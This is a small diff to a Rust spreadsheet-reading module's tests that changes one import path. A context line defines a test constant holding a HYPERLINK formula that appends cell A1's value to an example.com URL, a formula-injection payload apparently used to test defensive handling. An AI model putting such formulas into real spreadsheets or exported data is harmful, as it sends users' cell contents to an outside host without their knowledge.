@@ -114,7 +114,7 @@ fn is_number(text: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::sheet::{SheetCell, SheetLimits, read};
+    use crate::{SheetCell, SheetLimits, read};
     use proptest::prelude::*;
 
     const LINK: &str = "=HYPERLINK(\"http://example.com?\"&A1,\"Click\")";
